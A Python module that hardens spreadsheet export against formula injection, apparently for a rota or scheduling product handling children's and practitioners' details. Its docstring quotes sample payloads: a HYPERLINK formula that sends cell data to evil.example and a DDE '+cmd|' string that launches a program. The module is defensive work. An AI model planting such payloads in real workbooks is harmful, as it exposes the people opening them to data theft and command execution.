"""Spreadsheet cells: text from the data never becomes a live formula or link in a workbook.

A child, setting or practitioner name, an address or a reason is typed by someone else. In a
cell, ``=HYPERLINK("https://evil.example?"&A1,"Open")``, ``+cmd|' /C calc'!A0``, ``@SUM(…)`` or
a leading tab would be a formula, and xlsxwriter's ``write()`` (which polars' ``write_excel``
uses) turns strings starting with ``=`` into formulas and URLs into hyperlinks. Every workbook
the product writes for people comes from :func:`new_workbook`, which switches all of that off,
and :func:`write_row` writes each string as a string cell; one that begins like a formula
(:func:`formula_like`) also gets Excel's *quote prefix*, so it stays text even when someone
edits the cell. The value itself is unchanged: read back, the cell holds exactly the name.

The plan folder's CSV files (``links.csv``, ``appointments.csv``, ``unscheduled.csv``) are
machine interfaces of the data contract, read by our own tools and the authority's: their
values round-trip exactly, child ids included, and nothing is added to them. People open the
rota workbook instead; the dashboard offers no CSV made for spreadsheets.
"""

from __future__ import annotations

from collections.abc import Sequence
from datetime import date, datetime
from io import BytesIO
from pathlib import Path
from typing import Any

import xlsxwriter
from xlsxwriter.format import Format
from xlsxwriter.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""What a spreadsheet may read as the start of a formula (and the full-width forms some
locales accept), per OWASP's CSV injection guidance."""

WORKBOOK_OPTIONS: dict[str, Any] = {
    "strings_to_formulas": False,
    "strings_to_urls": False,
    "strings_to_numbers": False,
}
"""xlsxwriter options that keep every string a string."""


def formula_like(text: str) -> bool:
    """Whether a spreadsheet could take ``text`` for a formula."""
    return text.startswith(FORMULA_STARTS)


def new_workbook(target: str | Path | BytesIO, **options: Any) -> xlsxwriter.Workbook:
    """An xlsxwriter workbook in which no string becomes a formula, a link or a number."""
    return xlsxwriter.Workbook(target, {**options, **WORKBOOK_OPTIONS})


class TextCells:
    """Writes rows into one workbook's sheets with every string a literal string."""

    def __init__(self, book: xlsxwriter.Workbook) -> None:
        self._book = book
        self._quoted: dict[int | None, Format] = {}

    def _quote_prefixed(self, base: Format | None) -> Format:
        """``base`` plus Excel's quote prefix (the cell shows and keeps its text as typed)."""
        key = id(base) if base is not None else None
        if key not in self._quoted:
            properties: dict[str, Any] = {"quote_prefix": True}
            if base is not None and base.bold:
                properties["bold"] = True
            self._quoted[key] = self._book.add_format(properties)
        return self._quoted[key]

    def write(
        self, sheet: Worksheet, row: int, col: int, value: object, fmt: Format | None = None
    ) -> None:
        """One cell: numbers as numbers, dates as ISO text, everything else as a string."""
        if value is None:
            sheet.write_blank(row, col, None, fmt)
        elif isinstance(value, bool):
            sheet.write_boolean(row, col, value, fmt)
        elif isinstance(value, int | float):
            sheet.write_number(row, col, value, fmt)
        else:
            text = value.isoformat() if isinstance(value, date | datetime) else str(value)
            sheet.write_string(
                row, col, text, self._quote_prefixed(fmt) if formula_like(text) else fmt
            )

    def write_row(
        self,
        sheet: Worksheet,
        row: int,
        col: int,
        values: Sequence[object],
        fmt: Format | None = None,
    ) -> None:
        for offset, value in enumerate(values):
            self.write(sheet, row, col + offset, value, fmt)
